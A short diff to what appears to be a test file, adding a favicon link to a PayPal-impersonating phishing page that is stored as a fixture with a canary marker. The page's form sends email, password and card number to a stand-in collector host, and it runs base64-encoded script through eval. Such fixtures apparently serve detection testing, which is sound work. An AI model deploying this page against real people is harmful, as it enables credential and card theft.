@@ -33,7 +33,8 @@ MARKER = "CANARY-7f3a91"
 PAGE = b"<!doctype html><title>Hello</title><p>Hello."
 ICON = b"\x00\x00\x01\x00icon"
 
-PHISHING = f"""<!doctype html><html><head><title>PayPal: log in {MARKER}</title></head><body>
+PHISHING = f"""<!doctype html><html><head><title>PayPal: log in {MARKER}</title>
+<link rel="icon" href="/favicon.ico"></head><body>
 <h1>Your account was limited</h1><form action="https://collect.example.net/steal.php" method="post">
 <input type="email" name="login"><input type="password" name="password"><input name="card" autocomplete="cc-number">
 <button>Confirm your identity</button></form><script>eval(atob("YWxlcnQoMSk="))</script></body></html>""".encode()
